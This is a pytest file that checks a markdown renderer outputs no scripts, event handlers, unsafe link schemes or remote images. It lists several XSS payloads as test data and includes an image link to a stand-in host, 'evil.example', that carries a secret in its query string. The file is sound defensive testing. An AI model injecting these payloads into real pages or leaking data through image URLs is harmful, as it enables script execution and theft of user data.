"""Markdown rendering is safe: no script, handler, foreign scheme or remote image survives."""

from __future__ import annotations

import re

import pytest

from app.formatting.markdown import to_html

XSS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<svg onload=alert(1)>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '<a href="vbscript:msgbox(1)">x</a>',
]


@pytest.mark.parametrize("payload", XSS)
def test_markdown_xss_payloads_render_inert(payload):
    html = to_html(payload)
    assert not re.search(r"<(script|iframe|svg|img)\b", html, re.I)
    assert not re.search(r"<[^>]*\son\w+\s*=", html, re.I)  # no handler inside a tag
    assert not re.search(r'<a\b[^>]*href="(?!https?:|mailto:)', html, re.I)


def test_case2_remote_image_becomes_its_alt_text():
    html = to_html("![secret](https://evil.example/p.png?q=SECRET)")
    assert "<img" not in html and "evil.example" not in html and "secret" in html


def test_tables_lists_and_highlighted_code_render():
    html = to_html("| a | b |\n|---|---|\n| 1 | 2 |\n\n- x\n- y\n\n```python\nprint(1)\n```")
    assert "<table>" in html and "<li>x</li>" in html
    assert '<span class="nb">print</span>' in html


def test_links_get_noopener():
    assert 'rel="noopener noreferrer nofollow"' in to_html("[site](https://example.com)")
